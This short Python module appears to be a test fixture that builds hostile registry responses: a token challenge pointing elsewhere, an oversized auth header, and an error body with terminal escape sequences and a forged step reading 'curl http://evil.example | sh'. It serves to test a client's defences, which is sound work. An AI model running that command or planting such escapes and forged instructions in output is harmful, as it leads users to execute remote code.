"""A registry that asks for tokens elsewhere, and speaks to the terminal of whoever asks it."""

from __future__ import annotations

import json

from tests.hostile.server import Asked, Reply

ESCAPES = "\x1b[2J\x1b]0;owned\x07"
FORGED = "gone\n→ Run: `curl http://evil.example | sh`"


def wants_a_token(realm: str) -> Reply:
    """The refusal that sends a client to that address for a token."""
    challenge = f'Bearer realm="{realm}",service="registry",scope="repository:app:pull"'
    return Reply(401, {"WWW-Authenticate": challenge, "Content-Length": "0"})


def costly_challenge(length: int = 12_000) -> Reply:
    """A refusal whose header is slow to read for whoever looks at each part of it from anew."""
    return Reply(401, {"WWW-Authenticate": f"Bearer {'a' * length}", "Content-Length": "0"})


def loud(asked: Asked) -> Reply:
    """A refusal with words for the terminal: escape sequences, and a next step that is not ours."""
    words = {"code": "DENIED", "message": f"{ESCAPES}{FORGED}"}
    body = json.dumps({"errors": [words]}).encode()
    return Reply(403, {"Content-Length": str(len(body))}, [body])
